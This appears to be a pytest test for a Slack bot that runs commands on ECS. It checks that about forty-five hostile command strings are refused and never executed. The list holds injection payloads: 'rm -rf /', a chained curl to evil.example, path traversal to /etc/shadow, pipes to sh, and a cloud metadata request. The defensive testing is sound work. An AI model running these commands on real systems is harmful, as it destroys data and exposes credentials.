"""Hostile commands through the real app: each is refused in the ack and nothing reaches ECS.

The policy's own table (tests/policy) covers the structure of each refusal; this one proves the Slack
path honours it end to end — signed request in, refusal out, zero ExecuteCommand, zero channel posts.
"""

from __future__ import annotations

import asyncio

import pytest

from tests.slack.conftest import execute_command_calls
from tests.support.fake_slack import FakeSlack
from tests.support.slack_app import BotHarness

HOSTILE = [
    "web cat /var/log/nginx/access.log; rm -rf /",
    "web cat /var/log/nginx/a.log && curl http://evil.example/x",
    "web cat /var/log/nginx/a.log &amp;&amp; id",  # HTML-escaped as Slack sends it
    "web echo hi || id",
    "web echo $(id)",
    "web echo `id`",
    "web echo ${IFS}id",
    "web echo $HOME",
    "web cat /var/log/nginx/../../etc/shadow",
    "web tail -n 10 /var/log/nginx/../../../etc/passwd",
    "web cat /etc/shadow",
    "web echo hi\nrm -rf /",
    "web echo hi\rrm -rf /",
    "web cat /var/log/nginx/a.log > /etc/passwd",
    "web cat /var/log/nginx/a.log &gt;&gt; /etc/passwd",
    "web cat < /etc/shadow",
    "web cat &lt;(id)",
    "web echo hi 2>&amp;1",
    "web echo hi | sh",
    "web echo id | bash",
    "web sh -c id",
    "web env X=1 id",
    "web IFS=x id",
    "web echo hi | xargs rm",
    "web find / -exec rm {} ;",
    "web awk 'BEGIN{system(\"id\")}'",
    "web sleep 100 &amp;",
    "web sleep 1 & id",
    "web echo hi |& cat",
    "web echo ok #; rm -rf /",
    "web cat <<EOF",
    "web cat <<< secret",
    "web (id)",
    "web { id; }",
    "web rm -rf /",
    "web curl http://169.254.169.254/latest/meta-data/",
    "web python3 -c 'import os; os.system(\"id\")'",
    "web ls ~root",
    "web id; id",
    "api echo hi > /tmp/x",
    "web --timeout 9999 echo hi",
    "web echo \x00 hi",
    "web echo hi \x1b[2J",
    "web --all-tasks --task abc echo hi",
    "web echo " + "A" * 4100,
]


@pytest.mark.timeout(120)
async def test_hostile_commands_are_refused_and_never_executed(bot: BotHarness, fake: FakeSlack) -> None:
    assert len(HOSTILE) >= 30
    not_refused: list[tuple[str, str]] = []
    for text in HOSTILE:
        ack = await bot.command(text)
        if ack.status != 200 or not ack.message.startswith(("⛔", "❓")):
            not_refused.append((text, ack.message[:200]))
    assert not_refused == []
    await asyncio.sleep(0.5)  # anything wrongly started after the ack would show up by now
    assert execute_command_calls() == []
    assert fake.calls("chat.postMessage") == []
